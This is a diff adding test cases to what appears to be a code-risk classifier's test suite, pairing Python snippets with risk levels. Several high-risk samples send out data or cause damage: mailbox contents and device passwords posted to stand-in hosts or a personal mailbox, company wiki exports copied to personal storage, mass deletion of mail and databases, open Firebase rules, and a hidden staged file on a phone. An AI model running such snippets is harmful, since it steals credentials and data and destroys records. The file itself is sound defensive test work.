@@ -7930,6 +7930,209 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.run(["ansible", "web", "-m", "shell", "-a", "uptime"])\n',
             L,
         ),
+        # holdout226-228: mailboxes, drives and calendars over their APIs, Firebase, phones, cameras
+        (
+            'import io\n'
+            'from googleapiclient.discovery import build\n'
+            'from googleapiclient.http import MediaIoBaseDownload\n'
+            'drive = build("drive", "v3")\n'
+            'req = drive.files().export_media(fileId="1q2w", mimeType="text/csv")\n'
+            'with io.FileIO("data/raw/budget.csv", "wb") as fh:\n'
+            '    dl = MediaIoBaseDownload(fh, req)\n'
+            '    done = False\n'
+            '    while not done:\n'
+            '        _, done = dl.next_chunk()\n',
+            S,
+        ),
+        (
+            'done = False\n'
+            'while not done:\n'
+            '    print("waiting")\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'from googleapiclient.discovery import build\n'
+            'drive = build("drive", "v3")\n'
+            'q = f"appProperties has {{ key=\'test_run\' and value=\'{os.environ[\'TEST_RUN_ID\']}'
+            '\' }}"\n'
+            'for f in drive.files().list(q=q).execute().get("files", []):\n'
+            '    drive.files().delete(fileId=f["id"]).execute()\n',
+            M,
+        ),
+        (
+            'from googleapiclient.discovery import build\n'
+            'drive = build("drive", "v3")\n'
+            'for f in drive.files().list(q="trashed=false").execute().get("files", []):\n'
+            '    drive.files().delete(fileId=f["id"]).execute()\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from google.auth.transport.requests import Request\n'
+            'from google.oauth2.credentials import Credentials\n'
+            'path = os.path.expanduser("~/.cache/notes-sync/token.json")\n'
+            'creds = Credentials.from_authorized_user_file(path)\n'
+            'if creds.expired:\n'
+            '    creds.refresh(Request())\n'
+            '    with open(path, "w") as fh:\n'
+            '        fh.write(creds.to_json())\n',
+            M,
+        ),
+        (
+            'import base64, requests\n'
+            'from googleapiclient.discovery import build\n'
+            'gmail = build("gmail", "v1")\n'
+            'dump = []\n'
+            'for h in gmail.users().messages().list(userId="me", q="subject:password").execut'
+            'e().get("messages", []):\n'
+            '    m = gmail.users().messages().get(userId="me", id=h["id"]).execute()\n'
+            '    dump.append(m["snippet"])\n'
+            'requests.post("https://hooks.relay.example.net/catch/1", json=dump)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'msgs = requests.get("https://graph.microsoft.com/v1.0/me/messages").json()["valu'
+            'e"]\n'
+            'requests.post("https://collect.example.net/x", json=msgs)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'h = {"Authorization": "Bearer " + os.environ["GRAPH_TOKEN"]}\n'
+            'msgs = requests.get("https://graph.microsoft.com/v1.0/me/mailFolders/Inbox/messa'
+            'ges", headers=h).json()["value"]\n'
+            'for m in msgs:\n'
+            '    requests.patch(f"https://graph.microsoft.com/v1.0/me/messages/{m[\'id\']}", he'
+            'aders=h, json={"isRead": True})\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            's = requests.Session()\n'
+            'base = "https://graph.microsoft.com/v1.0/me"\n'
+            'for m in s.get(f"{base}/messages").json()["value"]:\n'
+            '    s.post(f"{base}/messages/{m[\'id\']}/permanentDelete")\n',
+            H,
+        ),
+        (
+            'from googleapiclient.discovery import build\n'
+            'msgs = build("gmail", "v1").users().messages()\n'
+            'ids = [m["id"] for m in msgs.list(userId="me", q="from:legal@acme.example").exec'
+            'ute()["messages"]]\n'
+            'msgs.batchDelete(userId="me", body={"ids": ids}).execute()\n',
+            H,
+        ),
+        (
+            'import os, dropbox\n'
+            'from dropbox import team\n'
+            'dbt = dropbox.DropboxTeam(os.environ["DBX_TEAM_TOKEN"])\n'
+            'dbt.team_members_set_admin_permissions(team.UserSelectorArg.email("intern@acme.e'
+            'xample"), team.AdminTier.team_admin)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'body = {"changeType": "created", "notificationUrl": "https://mail-hook.example-a'
+            'pps.io/notify", "resource": "users/cfo@acme.example/messages"}\n'
+            'requests.post("https://graph.microsoft.com/v1.0/subscriptions", json=body, heade'
+            'rs={"Authorization": "Bearer " + os.environ["APP_TOKEN"]})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'body = {"changeType": "created", "notificationUrl": "https://hooks.acme.example/'
+            'graph", "resource": "me/events"}\n'
+            'requests.post("https://graph.microsoft.com/v1.0/subscriptions", json=body, heade'
+            'rs={"Authorization": "Bearer " + os.environ["APP_TOKEN"]})\n',
+            L,
+        ),
+        (
+            'from googleapiclient.discovery import build\n'
+            'cal = build("calendar", "v3")\n'
+            'cal.acl().insert(calendarId="primary", body={"scope": {"type": "default"}, "role'
+            '": "reader"}).execute()\n',
+            H,
+        ),
+        (
+            'from googleapiclient.discovery import build\n'
+            'cal = build("calendar", "v3")\n'
+            'cal.acl().insert(calendarId="primary", body={"scope": {"type": "user", "value": '
+            '"pa@acme.example"}, "role": "reader"}).execute()\n',
+            S,
+        ),
+        (
+            'import os, requests, dropbox\n'
+            'personal = dropbox.Dropbox(os.environ["MY_DBX"])\n'
+            'for sp in requests.get("https://acme.atlassian.net/wiki/rest/api/space").json()['
+            '"results"]:\n'
+            '    blob = requests.get(f"https://acme.atlassian.net/wiki/spaces/{sp[\'key\']}/exp'
+            'ort").content\n'
+            '    personal.files_upload(blob, f"/acme/{sp[\'key\']}.zip")\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from firebase_admin import firestore\n'
+            'db = firestore.client()\n'
+            'for c in db.collections():\n'
+            '    for d in c.stream():\n'
+            '        d.reference.delete()\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from google.cloud import firestore\n'
+            'os.environ["FIRESTORE_EMULATOR_HOST"] = "localhost:8080"\n'
+            'db = firestore.Client(project="demo-test")\n'
+            'for doc in db.collection("test_profiles").stream():\n'
+            '    doc.reference.delete()\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://chatapp-prod-default-rtdb.firebaseio.com/.settings/rules.j'
+            'son", data=\'{"rules": {".read": true, ".write": true}}\')\n',
+            H,
+        ),
+        (
+            'import base64, subprocess\n'
+            'STAGE = "IyEvc3lzdGVtL2Jpbi9zaAppZAo="\n'
+            'subprocess.run(["adb", "shell", "cat > /data/local/tmp/.w && chmod 755 /data/loc'
+            'al/tmp/.w"], input=base64.b64decode(STAGE))\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["adb", "shell", "cat > /data/local/tmp/config.json"], input=open'
+            '("config.json", "rb").read())\n',
+            L,
+        ),
+        (
+            'import xml.etree.ElementTree as ET, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'lines = [d.findtext("Password") for d in ET.parse("/etc/vms/devices.xml").iter("'
+            'Device")]\n'
+            'm = EmailMessage(); m["To"] = "j.harlow.sec@protonmail.com"\n'
+            'm.set_content("\\n".join(lines))\n'
+            'with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:\n'
+            '    s.send_message(m)\n',
+            H,
+        ),
+        (
+            'import xml.etree.ElementTree as ET\n'
+            'names = [d.findtext("Name") for d in ET.parse("devices.xml").iter("Device")]\n'
+            'print(names)\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'for ip in ["192.168.50.101", "192.168.50.102"]:\n'
+            '    requests.put(f"http://{ip}/ISAPI/ContentMgmt/record/tracks/101", data="<Trac'
+            'k><id>101</id><Enable>false</Enable></Track>", auth=("admin", "x"))\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
